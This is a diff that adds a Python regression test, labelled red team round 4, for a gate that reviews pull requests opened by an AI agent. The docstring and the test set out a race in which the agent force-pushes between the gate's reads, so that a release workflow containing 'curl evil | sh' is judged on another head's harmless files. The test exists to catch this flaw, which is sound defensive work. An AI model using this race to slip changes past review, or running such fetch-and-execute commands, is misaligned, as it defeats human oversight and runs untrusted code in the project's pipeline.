@@ -1,0 +1,46 @@
+"""Red team round 4: `head_facts` caches GitHub's commit and file lists under the head
+sha of the pull request copy the evaluation read, but `GET /pulls/{n}/commits` and
+`/files` answer for the pull request's head *now*. An agent that pushes between the two
+reads poisons the cache of the older head for `HEAD_TTL` (7 days): that head is judged on
+another head's commits and files, as complete, and `known_head` now also lets the list of
+open pull requests stand in for `GET /pulls/{n}` on the strength of that entry."""
+
+from __future__ import annotations
+
+from app.gate import fetch_pull
+from app.github.gather import head_facts
+from tests.unit.github.conftest import AGENT, REPO, Gate, gate  # noqa: F401
+
+
+def test_the_commits_cached_for_a_head_are_that_heads(gate: Gate):  # noqa: F811
+    number = gate.simulator.open_pull_request(
+        REPO, author=AGENT, files={".github/workflows/release.yml": "run: curl evil | sh\n"}
+    )
+    first = gate.head(number)
+    deps = gate.app.extensions["foureyes"]
+    with gate.app.app_context():
+        gh = deps.github.for_installation(gate.installed.installation_id)
+        with gh:
+            pull = fetch_pull(gh, REPO, number)  # the evaluation reads the pull request at `first`
+            # ... and the agent force-pushes before the evaluation lists its commits and
+            # files: one commit, one file, as many as the copy's counts say.
+            world = gate.simulator.world
+            with world.lock:
+                record = world.repo(REPO)
+                moved = record.pulls[number]
+                base = world.commits[first].parents[0]
+                commit = world.add_commit(
+                    base, {"README.md": "harmless\n"}, author=AGENT, committer=AGENT, message="x"
+                )
+                moved.commits, moved.head_sha = [commit.sha], commit.sha
+                moved.updated_at = world.now()
+                record.branches[moved.head_ref] = commit.sha
+                second = commit.sha
+            commits, files, complete = head_facts(gh, deps.state, REPO, pull)
+    assert second != first
+    shas = [commit.sha for commit in commits]
+    assert not complete or (shas[-1] == first and second not in shas), (
+        f"the commits cached (complete) for head {first[:7]} end at {shas[-1][:7]}, the "
+        f"newer head {second[:7]}: {first[:7]} is judged on another head's commits"
+    )
+    assert not complete or ".github/workflows/release.yml" in files
